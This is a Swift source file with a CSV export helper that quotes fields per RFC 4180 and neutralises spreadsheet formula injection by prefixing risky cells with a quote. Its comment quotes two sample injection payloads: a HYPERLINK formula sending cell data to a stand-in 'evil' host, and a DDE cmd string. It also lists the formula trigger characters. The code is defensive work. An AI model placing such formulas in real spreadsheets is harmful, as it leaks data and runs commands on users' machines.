/// RFC 4180 CSV: fields with a comma, quote or line break are quoted, quotes doubled. A UTF-8
/// byte order mark leads the file so spreadsheet programs read the Chinese text correctly.
///
/// Cells a spreadsheet would run as a formula (CSV injection: a corrective action typed as
/// `=HYPERLINK("http://evil/?"&A1,"详情")` or `=cmd|' /C calc'!A0`) start with `'`, as OWASP
/// advises, and are quoted: they then show as the text that was typed. Plain numbers such as a
/// freezer's `-18.0` are left alone.
enum CSV {
    static let byteOrderMark = "\u{FEFF}"

    static func field(_ text: String) -> String {
        if let first = text.unicodeScalars.first, formulaTriggers.contains(first), !isPlainNumber(text) {
            return "\"'" + text.replacingOccurrences(of: "\"", with: "\"\"") + "\""
        }
        guard text.contains(where: { $0 == "," || $0 == "\"" || $0 == "\n" || $0 == "\r" }) else { return text }
        return "\"" + text.replacingOccurrences(of: "\"", with: "\"\"") + "\""
    }

    /// OWASP's list of what makes a spreadsheet read a cell as a formula (tab and CR too: some
    /// programs strip them and read on).
    static let formulaTriggers: Set<Unicode.Scalar> = ["=", "+", "-", "@", "\t", "\r"]

    /// `-18.0`, `+3`, `-0.5`: numbers, not formulas.
    static func isPlainNumber(_ text: String) -> Bool {
        guard let sign = text.utf8.first, sign == UInt8(ascii: "-") || sign == UInt8(ascii: "+") else { return false }
        let body = text.utf8.dropFirst()
        var digits = 0
        var dots = 0
        for b in body {
            switch b {
            case UInt8(ascii: "0")...UInt8(ascii: "9"): digits += 1
            case UInt8(ascii: "."): dots += 1
            default: return false
            }
        }
        return digits > 0 && dots <= 1
    }

    static func document(header: [String], rows: [[String]]) -> String {
        byteOrderMark + ([header] + rows).map { $0.map(field).joined(separator: ",") + "\r\n" }.joined()
    }

    static func number(_ value: Double?) -> String {
        value.map { String(format: "%.1f", $0) } ?? ""
    }
}
